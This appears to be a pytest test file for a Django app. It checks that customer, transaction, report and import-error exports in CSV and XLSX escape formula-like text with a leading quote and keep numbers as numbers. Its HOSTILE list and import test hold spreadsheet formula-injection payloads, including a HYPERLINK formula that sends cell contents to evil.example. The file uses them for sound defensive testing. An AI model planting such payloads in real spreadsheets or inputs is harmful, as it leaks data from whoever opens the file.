"""Exports are safe to open (issue 14, item 6): no cell of a CSV or XLSX the app
hands out is ever a formula; real numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from bulk import spreadsheets
from reports import queries
from reports.views import _export as report_export
from tests.bulk.helpers import csv_bytes, good_row
from tests.factories import CustomerFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _people_xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(list(good_row(1).keys()))
    workbook.active.append(list(good_row(1).values()))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


PEOPLE_XLSX = _people_xlsx()  # made before any test forbids temporary files


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _harmless(text: str) -> bool:
    return not text.startswith(spreadsheets.FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value):
    assert spreadsheets.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [0, 12, -5, Decimal("-88.80"), 1.5])
def test_real_numbers_stay_numbers_negative_ones_too(value):
    assert spreadsheets.safe_cell(value) == value
    (cell,) = _xlsx_cells(b"".join(spreadsheets.xlsx_chunks([("t", [[value]])])))
    assert cell.data_type == "n" and cell.value == pytest.approx(float(value))
    assert _csv_cells("".join(spreadsheets.csv_lines([[value]])).encode())[0] == [str(value)]


def test_an_xlsx_survives_characters_xml_cannot_carry_and_keeps_tabs_and_returns():
    rows = [["nul\x00here", "\ud800lone", "a\rb\tc", "😀 \u202eRTL"]]
    (nul, lone, whitespace, emoji) = _xlsx_cells(b"".join(spreadsheets.xlsx_chunks([("t", rows)])))
    assert nul.value == "nul\ufffdhere" and lone.value == "\ufffdlone"
    assert whitespace.value == "a\rb\tc" and emoji.value == "😀 \u202eRTL"


@pytest.fixture
def hostile_customers(clerk):
    return [CustomerFactory(actor=clerk, n=n, name=f"客户{n}", address=value) for n, value in enumerate(HOSTILE, 1)]


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_customer_exports_write_formula_like_text_as_text(client, clerk, hostile_customers, file_format):
    client.force_login(clerk)
    response = client.get(reverse("bulk:export", args=["customers", file_format]))
    content = b"".join(response.streaming_content)
    if file_format == "csv":
        texts = [cell for row in _csv_cells(content) for cell in row]
    else:
        cells = _xlsx_cells(content)
        assert cells and all(c.data_type in ("s", "n") for c in cells)
        texts = [c.value for c in cells if c.value is not None]
    assert all(_harmless(text) for text in texts)
    addresses = {c.address for c in hostile_customers}  # as the model normalised them
    assert {a for a in addresses if not _harmless(a)} and all(
        ("'" + a if not _harmless(a) else a) in texts for a in addresses
    )


@pytest.mark.django_db
def test_the_import_error_report_writes_the_uploaded_cells_as_text(client, clerk):
    client.force_login(clerk)
    rows = [good_row(1, 名称='=HYPERLINK("http://evil.example")'), good_row(2, 证件号码="123", 名称="@SUM(1)")]
    client.post(reverse("bulk:imports"), {"file": SimpleUploadedFile("list.csv", csv_bytes(rows), "text/csv")})
    from bulk.models import ImportJob

    job = ImportJob.objects.get()
    report = _csv_cells(b"".join(client.get(reverse("bulk:job_report", args=[job.pk])).streaming_content))
    names = [row[1] for row in report[1:]]
    assert names == ['\'=HYPERLINK("http://evil.example")', "'@SUM(1)"]
    assert all(_harmless(cell) for row in report for cell in row)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_report_exports_write_formula_like_text_as_text_and_counts_as_numbers(file_format):
    table = queries.Table("=1+1", ["名称", "数量"], [[value, -n] for n, value in enumerate(HOSTILE, 1)])
    response = report_export("hostile", [table], file_format)
    if file_format == "csv":
        texts = [cell for row in _csv_cells(response.content) for cell in row]
        numbers = {str(-n) for n in range(1, len(HOSTILE) + 1)}  # counts, written as numbers
        assert all(_harmless(t) for t in texts if t not in numbers) and "-3" in texts and "'-2+3" in texts
    else:
        cells = _xlsx_cells(response.content)
        assert all(c.data_type in ("s", "n") for c in cells)
        assert all(_harmless(c.value) for c in cells if c.data_type == "s")
        assert [c.value for c in cells if c.data_type == "n"] == [-n for n in range(1, len(HOSTILE) + 1)]
        assert load_workbook(io.BytesIO(response.content)).sheetnames == ["1 =1+1"]


@pytest.fixture
def no_temporary_files(monkeypatch):
    """Any temporary file made while this runs fails the test."""
    import tempfile

    def refuse(*args, **kwargs):
        raise AssertionError("a temporary file was made")

    from openpyxl.worksheet import _writer

    for name in ("NamedTemporaryFile", "TemporaryFile", "SpooledTemporaryFile", "mkstemp", "mkdtemp"):
        monkeypatch.setattr(tempfile, name, refuse)
    monkeypatch.setattr(_writer, "NamedTemporaryFile", refuse)  # openpyxl's writer spools each sheet to one


@pytest.mark.django_db
def test_exports_and_the_xlsx_import_make_no_temporary_file(
    client, clerk, manager, hostile_customers, no_temporary_files
):

    from openpyxl import Workbook

    from bulk.models import ImportJob, JobStatus

    with pytest.raises(AssertionError, match="temporary file"):
        Workbook().save(io.BytesIO())  # what openpyxl's writer would do is caught
    client.force_login(manager)
    for what in ("customers", "transactions"):
        response = client.get(reverse("bulk:export", args=[what, "xlsx"]))
        assert _xlsx_cells(b"".join(response.streaming_content))
    table = queries.Table("t", ["a"], [["=1"]])
    assert _xlsx_cells(report_export("t", [table], "xlsx").content)
    client.force_login(clerk)
    client.post(reverse("bulk:imports"), {"file": SimpleUploadedFile("people.xlsx", PEOPLE_XLSX)})
    job = ImportJob.objects.get()
    assert job.status == JobStatus.CHECKED and job.good_rows == 1
